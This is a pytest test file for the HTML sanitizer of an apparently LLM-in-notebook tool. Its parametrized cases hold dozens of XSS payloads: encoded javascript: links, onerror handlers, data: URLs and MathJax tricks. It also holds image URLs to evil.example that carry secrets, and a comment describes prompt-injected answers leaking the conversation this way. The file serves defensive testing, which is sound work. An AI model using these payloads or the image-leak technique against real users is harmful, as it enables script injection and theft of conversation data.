"""The static end of a turn as sanitized HTML: every Markdown attack of the earlier reviews
(live_view_support.INERT_TRICKS and the cases below), the error box, the footer, math, and the
bundle's MIME types. What the HTML does in a browser is checked in test_browser.py (nbconvert's
HTML with MathJax, the live pane with DOMPurify)."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

import pytest
from live_view_support import INERT_TRICKS

from notebook_llm.core.errors import ErrorCode, LlmError
from notebook_llm.notebook.widgets.final import FinalView, ToolCallInfo
from notebook_llm.notebook.widgets.render import ErrorBox, Result
from notebook_llm.notebook.widgets.safe_html import (
    HIGHLIGHT_LEXERS,
    clean,
    highlight_code,
    markdown_html,
    safe_link,
)

#: Every tag the sanitized output may hold (the allow-list in safe_html, no more).
ALLOWED_TAGS = {
    "p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "pre", "code", "blockquote", "em",
    "strong", "b", "i", "del", "s", "a", "br", "hr", "table", "thead", "tbody", "tr", "th", "td",
    "span", "div", "details", "summary", "sup", "sub",
}  # fmt: skip


class Elements(HTMLParser):
    """Each start tag of an HTML string with its attributes (values decoded, as a browser
    reads them), and the text."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def hrefs(self) -> list[str]:
        return [a["href"] for tag, a in self.tags if tag == "a" and "href" in a]


def browser_scheme(url: str) -> str | None:
    """The scheme a browser would give ``url`` (WHATWG: leading/trailing C0 and space and
    inner tabs/newlines dropped), or None for a relative one."""
    url = url.strip("".join(map(chr, range(0x21)))).replace("\t", "").replace("\n", "")
    url = url.replace("\r", "")
    head, sep, _ = url.partition(":")
    if not sep or not head[:1].isascii() or not head[:1].isalpha():
        return None
    if all(c.isascii() and (c.isalnum() or c in "+-.") for c in head):
        return head.lower()
    return None


def assert_inert(source: str, context: Any = None) -> Elements:
    """No element outside the allow-list, no event handler, no URL but http(s)/mailto/relative,
    no image and no CSS that can fetch."""
    found = Elements(source)
    for tag, attrs in found.tags:
        assert tag in ALLOWED_TAGS, (context, tag, source)
        for name, value in attrs.items():
            assert not name.startswith("on"), (context, name, source)
            assert name not in ("src", "srcset", "id", "name", "action", "formaction"), context
            if name == "style":
                assert "(" not in value, (context, value)  # no url(), no expression()
                assert "\\" not in value, (context, value)  # no CSS escapes
            if name == "class":
                # MathJax matches whole class names: none may turn typesetting back on
                assert not {"tex2jax_process", "mathjax_process"} & set(value.split()), value
    for href in found.hrefs():
        assert browser_scheme(href) in (None, "http", "https", "mailto"), (context, href, source)
    return found


def final(text: str, **kwargs: Any) -> str:
    return str(FinalView(text, **kwargs)._repr_mimebundle_()["text/html"])


# ----------------------------------------------------------------------------- the bundle


def test_the_bundle_is_sanitized_html_and_plain_text_only() -> None:
    call = ToolCallInfo("get_weather", '{"city": "Lisbon"}', "sunny", "ok")
    view = FinalView("**hi**", reasoning="hmm", tools=[call], footer="mock:tools · done")
    bundle = view._repr_mimebundle_()
    assert set(bundle) == {"text/html", "text/plain"}  # no text/markdown: no second renderer
    html = bundle["text/html"]
    assert html.startswith('<div class="notebook-llm-final tex2jax_ignore mathjax_ignore">')
    assert html.endswith("</div>")
    assert "<strong>hi</strong>" in html
    assert_inert(html)
    for fetches in ("<img", "<link", "<script", "<style", "<iframe", "src=", "url(", "@import"):
        assert fetches not in html  # self-contained: nothing to load
    assert bundle["text/plain"].startswith("[reasoning] hmm\n[tool get_weather(")
    assert (
        Result("*x*")
        ._repr_mimebundle_()["text/html"]
        .startswith(
            '<div class="notebook-llm-final tex2jax_ignore mathjax_ignore"><p><em>x</em></p>'
        )
    )
    assert Result("*x*", fmt="text")._repr_mimebundle_() == {"text/plain": "*x*"}


def test_a_text_answer_is_shown_as_escaped_text() -> None:
    html = final("a <b>*c*</b>\n\n[x](javascript:alert(1))", fmt="text")
    assert '<pre style="white-space:pre-wrap">a &lt;b&gt;*c*&lt;/b&gt;\n\n[x](javascript' in html
    assert not Elements(html).hrefs()


def test_an_empty_answer_says_so() -> None:
    assert "<p><em>(empty answer)</em></p>" in final("")


# ------------------------------------------------------------------------ Markdown attacks


def test_raw_html_shows_as_text() -> None:
    answer = (
        "# Title\n\n<img src=x onerror=alert(1)> `<kbd>` <https://example.org>\n"
        "[x](javascript:alert(2))\n\n```html\n<script>ok in code</script>\n```\n"
        "<div>\n\n*a* <b>not bold</b>\n\n</div>\n"
    )
    html = final(answer, reasoning="<script>r</script>")
    found = assert_inert(html)
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "<code>&lt;kbd&gt;</code>" in html
    assert '<a href="https://example.org"' in html  # an autolink stays a link
    assert "javascript" not in "".join(found.hrefs())
    assert "&lt;script&gt;r&lt;/script&gt;" in html  # the reasoning too
    assert "&lt;b&gt;not bold&lt;/b&gt;" in html
    assert "<em>a</em>" in html  # Markdown inside what was raw HTML is still Markdown


@pytest.mark.parametrize(
    "trick",
    [
        "\\`<img src=x onerror=alert(1)>`",  # an escaped backtick opens no code span
        "[a]\n\n[a]: javascript:alert(1)",  # a reference definition
        "[a](jav&#97;script:alert(1))",  # a character reference
        "[a](jav&#x61;script:alert(1))",  # a hex one
        "[a](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
        "[a](javascript&colon;alert(1))",  # a named one
        "[a](java&#9;script:alert(1))",  # a tab the browser drops
        "[a](java%09script:alert(1))",  # percent-encoded
        "[a](%6A%61vascript:alert(1))",
        "[a](%256A%2561vascript:alert(1))",  # twice
        "[a](java&Tab;script:alert(1))",
        "[a](java&NewLine;script:alert(1))",
        "[a](&#0;javascript:alert(1))",
        "[a](&#x20;javascript:alert(1))",
        "[a](<javascript:alert(1)>)",
        "[a](<java\tscript:alert(1)>)",
        "[a](JaVaScRiPt:alert(1))",
        "[a](vbscript:msgbox(1))",
        "[a](javascript\\:alert(1))",  # a backslash escape
        "[a](javascript&amp;#58;alert(1))",  # a reference decoded twice
        "<javascript:alert(1)>",  # an autolink
        "<JAVASCRIPT:alert(1)>",
        "<data:text/html,<script>alert(1)</script>>",
        "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[a](data:image/svg+xml,<svg onload=alert(1)>)",
        "![i](data:text/html;base64,PHNjcmlwdD4=)",
        "![i](data:image/png;base64,iVBORw0KGgo=)",
        "[a](file:///etc/passwd)",
        "[a](blob:https://x.example/1)",
        "[a]: <javascript:alert(1)>\n\n[a]",
        "[a]:\n  javascript:alert(1)\n\n[a]",
        "[A]: javascript:alert(1)\n\n[a][] [b][A] [A]",  # case-folded labels
        "[a](/x 'title\" onmouseover=\"alert(1)')",  # a title closing the attribute
        '[a](https://ok.example "x\\" onmouseover=alert(1)")',
        "[a\\]b]: javascript:alert(1)\n\n[a\\]b]",
        "[a\nb]: javascript:alert(1)\n\n[a b]",
        "[![x](javascript:alert(1))](javascript:alert(2))",
        "**[a](javascript:alert(1))**",
        "| [a](javascript:alert(1)) |\n|---|\n| <https://ok.example> |",
    ],
)
def test_only_safe_link_targets_however_spelled(trick: str) -> None:
    html = final(trick)
    found = assert_inert(html, trick)
    for tag, attrs in found.tags:
        assert tag not in ("img", "script"), trick
        assert "title" not in attrs or "onmouseover" not in attrs  # text in a title is fine
    assert all(browser_scheme(h) in (None, "http", "https", "mailto") for h in found.hrefs())


def test_safe_links_are_kept() -> None:
    kept = (
        "[a](https://example.org) [b](/rel) [c](mailto:x@y.z) [d](#frag) [e](?q=1) [f](rel/x)"
        " [r] <https://auto.example> <a@b.example>\n\n[r]: http://ok.example"
    )
    hrefs = Elements(final(kept)).hrefs()
    assert hrefs == [
        "https://example.org",
        "/rel",
        "mailto:x@y.z",
        "#frag",
        "?q=1",
        "rel/x",
        "http://ok.example",
        "https://auto.example",
        "mailto:a@b.example",
    ]
    # bare URLs become links, as in the live pane (marked, GFM) and on GitHub; the same rule
    bare = "see https://bare.example/x and www.example.com, javascript:alert(1) data:text/html,x"
    assert Elements(final(bare)).hrefs() == ["https://bare.example/x", "http://www.example.com"]
    assert Elements(final("`https://in.code.example`")).hrefs() == []
    html = final("[a](https://example.org)")
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer"' in html


def test_no_markdown_trick_renders_an_element() -> None:
    # Text a line scan took for code where a renderer did not (and the reverse): each hides an
    # image and raw HTML, and link targets that decode to javascript: or data:.
    for name, trick in INERT_TRICKS.items():
        html = final(trick)
        found = assert_inert(html, name)
        assert not [t for t, _ in found.tags if t in ("img", "script")], name
        assert "evil.example" not in "".join(found.hrefs()).replace("https://evil.example/", ""), (
            name
        )  # an image's URL only as a link


def test_code_spans_show_their_text_as_code() -> None:
    html = final("use `std::vector<int>` and `` a`b `` here, `![x](u)` and `<https://x>`")
    assert "<code>std::vector&lt;int&gt;</code>" in html
    assert "<code>a`b</code>" in html
    assert "<code>![x](u)</code>" in html
    assert "<code>&lt;https://x&gt;</code>" in html
    assert not Elements(html).hrefs()


def test_code_blocks_are_highlighted_whatever_they_hold() -> None:
    html = final("```python\nif a < b:\n    print('<img src=x onerror=alert(1)>')\n```\n")
    assert (
        '<code class="language-python"><span style="color:#008000;font-weight:bold">if</span>'
        in (html)
    )
    assert "&lt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    found = assert_inert(html)
    assert sum(t == "span" for t, _ in found.tags) >= 3
    html = final("```html\n<script>alert(1)</script>\n![x](https://evil.example/1.png)\n```")
    found = assert_inert(html)
    assert "span" in [t for t, _ in found.tags]  # highlighted
    assert not found.hrefs()  # Markdown inside a block is text
    # an unknown language or none: the plain, escaped block
    assert '<pre><code class="language-nosuchlang">a &lt; b\n</code></pre>' in final(
        "```nosuchlang\na < b\n```"
    )
    assert "<pre><code>a &lt; b\n</code></pre>" in final("```\na < b\n```")
    assert "<pre><code>a &lt; b\n</code></pre>" in final("    a < b")  # indented
    # an info string cannot add a class or an attribute
    html = final('```python" onmouseover="alert(1) mathjax_process\nx\n```')
    assert_inert(html)
    assert "<pre><code>x\n</code></pre>" in html  # no such language, and no class of it
    big = "x = 1\n" * (HIGHLIGHT_LEXERS["PythonLexer"] // 6 + 1)
    assert highlight_code(big, "python") is None  # too long: shown plain
    assert highlight_code("x", "") is None


def test_images_become_links_and_nothing_is_fetched() -> None:
    # A remote image is fetched as soon as it is shown, and a URL an answer chose can carry what
    # the answer knows (a prompt-injected answer leaking the conversation).
    leaks = [
        "![leak](https://evil.example/x.png?q=secret)",
        "see ![r][ref]\n\n[ref]: https://evil.example/r.png",
        "\\\\![y](https://evil.example/y.png)",  # an escaped backslash, then an image
        "[![badge](https://evil.example/b.png)](https://ok.example)",
        "![a ![b](https://evil.example/9.png)](https://evil.example/10.png)",
        '![t](https://evil.example/t.png "title")',
        "![](https://evil.example/noalt.png)",
    ]
    for leak in leaks:
        html = final(leak)
        found = assert_inert(html, leak)
        assert "img" not in [t for t, _ in found.tags], leak
        assert any(h.startswith("https://evil.example/") for h in found.hrefs()), html
        assert "image: " in html
    assert "<a " not in final("`![x](u)`")  # code
    assert final("\\![x](u)").count("image:") == 0  # escaped: a link, not an image
    html = final("![leak](https://evil.example/x.png)")
    assert '<a href="https://evil.example/x.png" target="_blank" rel="noopener noreferrer">' in (
        html
    )
    assert ">image: leak</a>" in html
    assert ">image: https://evil.example/noalt.png</a>" in final(
        "![](https://evil.example/noalt.png)"
    )


@pytest.mark.parametrize(
    "text",
    [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "&#x3C;svg onload=alert(1)&#x3E;",
        "&amp;lt;b&amp;gt;",
        "\\<img src=x onerror=alert(1)>",
        "<!-- <img src=x onerror=alert(1)> -->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?php echo 1 ?>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<a href=javascript:alert(1)>x</a>",
        "<form action=https://evil.example><button>go</button></form>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    ],
)
def test_entities_and_raw_html_stay_text(text: str) -> None:
    html = final(text)
    found = assert_inert(html, text)
    tags = [t for t, _ in found.tags]
    assert tags[:2] == ["div", "p"], (text, html)  # the wrapper, a paragraph
    assert set(tags[2:]) <= {"a"}, (text, html)  # and a bare https URL as a link


def test_nested_and_deep_markdown_is_rendered_or_left_as_text() -> None:
    cases = [
        "*" * 20_000 + "x" + "*" * 20_000,
        "_a *b **c ***d*** c** b* a_ " * 200,
        "> " * 5_000 + "[x](javascript:alert(1))",
        "- " * 5_000 + "![x](https://evil.example/d.png)",
        "[" * 20_000 + "x](javascript:alert(1))" + ")" * 20_000,
        "![" * 5_000 + "x](https://evil.example/n.png)",
        "`" * 10_000 + "<img src=x onerror=alert(1)>",
        "| a |\n|---|\n" + "| <img src=x onerror=alert(1)> |\n" * 2_000,
    ]
    for text in cases:
        html = final(text)  # no RecursionError, no hang: markdown-it caps nesting
        found = assert_inert(html, text[:40])
        assert "img" not in [t for t, _ in found.tags]
    assert "<em>a <em>b <strong>c" in final("_a *b **c** b* a_")


# --------------------------------------------------------------------------------- math


MATH = [
    "$\\href{javascript:alert(1)}{click}$",
    "$$\\href{https://evil.example/x}{click}$$",
    "\\(\\url{javascript:alert(1)}\\)",
    "\\\\[\\style{background:url(https://evil.example/s.png)}{x}\\\\]",
    "$\\style{position:fixed;top:0;left:0;width:100%;height:100%}{x}$",
    "$\\class{mathjax_process}{x}$",
    "$\\cssId{notebook-llm-x}{x}$",
    "$\\htmlId{x}{y}$ $\\htmlClass{tex2jax_process}{y}$ $\\htmlStyle{color:red}{y}$",
    "$\\unicode[Arial]{x1F600}$",
    "$\\require{action}\\toggle{a}{b}\\endtoggle$",
    "\\begin{equation}\\href{javascript:alert(1)}{x}\\end{equation}",
]


def test_math_cannot_carry_a_link_or_a_style() -> None:
    # MathJax typesets text/html outputs in JupyterLab, Notebook 7 and nbconvert's HTML: the
    # wrapper keeps it out (MathJax 2 and 3), and nothing inside can bring it back.
    for tex in MATH:
        html = final(tex)
        assert html.startswith('<div class="notebook-llm-final tex2jax_ignore mathjax_ignore">')
        found = assert_inert(html, tex)
        assert [t for t, _ in found.tags if t != "a"] == ["div", "p"], (tex, html)
        assert all(h.startswith("https://") for h in found.hrefs()), html  # a bare URL only
    assert "$\\href{javascript:alert(1)}{click}$" in final(MATH[0])  # shown as its source
    # a code block's info string or a heading cannot add a processing class
    html = final("```tex2jax_process mathjax_process\n$x$\n```\n\n# mathjax_process $x$")
    assert_inert(html)
    assert ' class="tex2jax_process' not in html
    assert ' class="mathjax_process' not in html
    # nor a provider's error message or the footer
    box = ErrorBox(LlmError(MATH[0], ErrorCode.INVALID_REQUEST))
    html = box._repr_mimebundle_()["text/html"]
    assert 'class="notebook-llm-output tex2jax_ignore mathjax_ignore"' in html
    assert 'class="notebook-llm-error tex2jax_ignore mathjax_ignore"' in html  # the widget too


# ----------------------------------------------------------------- error box and footer

HOSTILE_MESSAGE = (
    "bad request\r\r![x](https://evil.example/1.png)\n\n<img src=https://evil.example/2.png>"
    "</div></div><img src=x onerror=alert(1)>\r\n\r\n[x](javascript:alert(1))"
    " <https://evil.example/auto> <script>alert(2)</script> $\\href{javascript:alert(3)}{m}$"
    "\n\n```\n</pre><img src=https://evil.example/3.png>\n```\n<!-- -->&lt;b&gt;&amp;"
)


def test_the_error_box_keeps_a_providers_message_as_text() -> None:
    err = LlmError(HOSTILE_MESSAGE, ErrorCode.INVALID_REQUEST, provider="open<ai>")
    for html in (
        ErrorBox(err)._repr_mimebundle_()["text/html"],
        final("", error=ErrorBox(err)),
        final("answer", error=ErrorBox(err), footer="x"),
    ):
        found = assert_inert(html)
        assert not [t for t, _ in found.tags if t in ("a", "img", "script", "pre", "code")], html
        text = "".join(found.text)
        assert "![x](https://evil.example/1.png)" in text  # shown, as text
        assert "<img src=x onerror=alert(1)>" in text
        assert "[x](javascript:alert(1))" in text
        assert "&lt;b&gt;&amp;" in text  # references in the message are not decoded
        assert "open<ai>" in text
    html = final("answer", error=ErrorBox(err), footer="mock:m · error")
    # the box is closed where it should be: the footer comes after it, outside it
    assert html.endswith(
        '<div class="notebook-llm-footer" style="opacity:0.75;font-size:90%">mock:m · error'
        "</div></div>"
    )
    assert html.count('<div class="notebook-llm-error') == 1


def test_the_footer_and_cards_are_escaped() -> None:
    call = ToolCallInfo(
        "<img src=x onerror=alert(1)>",
        '{"a": "</pre><img src=https://evil.example/c.png>\\n\\n# h"}',
        "</div><script>alert(1)</script>[x](javascript:alert(1))",
        "</span><b onclick=alert(1)>",
        is_error=True,
    )
    html = final(
        "answer",
        tools=[call],
        footer="<img src=https://evil.example/f.png> $\\href{javascript:alert(1)}{x}$",
    )
    found = assert_inert(html)
    assert not [t for t, _ in found.tags if t in ("a", "img", "script", "h1")], html
    text = "".join(found.text)
    assert "<img src=x onerror=alert(1)>" in text
    assert "</span><b onclick=alert(1)>" in text
    assert "<img src=https://evil.example/f.png>" in text


# ------------------------------------------------------------------ the sanitizer itself


@pytest.mark.parametrize(
    ("dirty", "kept"),
    [
        ("<img src=x onerror=alert(1)>x", "x"),
        (
            '<a href="javascript:alert(1)">x</a>',
            '<a target="_blank" rel="noopener noreferrer">x</a>',
        ),
        (
            '<a href=" java\tscript:alert(1)">x</a>',
            '<a target="_blank" rel="noopener noreferrer">x</a>',
        ),
        ('<a href="data:text/html,x">x</a>', '<a target="_blank" rel="noopener noreferrer">x</a>'),
        ('<div style="background:url(https://evil.example/x)">x</div>', "<div>x</div>"),
        ('<div style="color:expression(alert(1))">x</div>', "<div>x</div>"),
        ('<div style="color:red;position:fixed">x</div>', '<div style="color:red">x</div>'),
        ('<div style="color:\\72 ed">x</div>', "<div>x</div>"),
        ('<span class="mathjax_process tex2jax_process x">x</span>', "<span>x</span>"),
        (
            '<code class="language-py mathjax_process">x</code>',
            '<code class="language-py">x</code>',
        ),
        ("<svg><script>alert(1)</script></svg>y", "y"),
        ("<style>@import 'https://evil.example/x.css';</style>y", "y"),
        ("<iframe src=https://evil.example></iframe>y", "y"),
        ("<form action=https://evil.example><input name=q></form>y", "y"),
        ('<div id="x" title="t" data-x="1">y</div>', "<div>y</div>"),
        (
            "<details open><summary>s</summary>y</details>",
            "<details><summary>s</summary>y</details>",
        ),
    ],
)
def test_the_sanitizer_keeps_only_its_allow_list(dirty: str, kept: str) -> None:
    assert clean(dirty) == kept


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://example.org", True),
        ("HTTP://example.org", True),
        ("mailto:a@b.c", True),
        ("/rel", True),
        ("rel/x:y", True),
        ("#x", True),
        ("javascript:alert(1)", False),
        (" \x01javascript:alert(1)", False),
        ("java\tscript:alert(1)", False),
        ("java%09script:alert(1)", False),
        ("%6a%61vascript:alert(1)", False),
        ("%25%36%61avascript:x", False),
        ("jav&#97;script:x", False),
        ("data:image/png;base64,AAAA", False),
        ("vbscript:x", False),
        ("ftp://example.org", False),
        ("tel:123", False),
    ],
)
def test_safe_link(url: str, ok: bool) -> None:
    assert safe_link(url) is ok


def test_a_deeply_encoded_link_target_is_refused_not_decoded_forever() -> None:
    # "%" then "25" 100,000 times: each round of decoding removes one level (quadratic if it
    # went on until nothing changed); so does "&amp;" nested. Past a few rounds: refused.
    deep = "%" + "25" * 100_000 + "6Aavascript:alert(1)"
    assert safe_link(deep) is False
    assert safe_link("&" + "amp;" * 100_000 + "#106;avascript:x") is False
    assert safe_link("https://x.example/%2541") is True  # two rounds: fine
    # within the Markdown bound (MARKDOWN_MAX_CHARS), so the links are read
    shallow = "%" + "25" * 15_000 + "6Aavascript:alert(1)"
    html = final(f"[a]({shallow}) [b](https://ok.example/{'%25' * 10_000}) [c](/{shallow})")
    assert Elements(html).hrefs() == ["https://ok.example/" + "%25" * 10_000]  # one round


def test_markdown_html_is_sanitized_by_itself() -> None:
    html = markdown_html("![i](https://evil.example/i.png) <b>x</b> [a](javascript:alert(1))")
    found = assert_inert(html)
    assert [t for t, _ in found.tags] == ["p", "a"]


def test_adapter_views_are_kept_out_of_mathjax_too() -> None:
    from notebook_llm.notebook.widgets.adapter_view import Rich

    html = Rich("x", "<b>$\\href{javascript:alert(1)}{x}$</b>")._repr_mimebundle_()["text/html"]
    assert html.startswith('<div class="notebook-llm-output tex2jax_ignore mathjax_ignore">')
    assert Rich("only text")._repr_mimebundle_() == {"text/plain": "only text"}
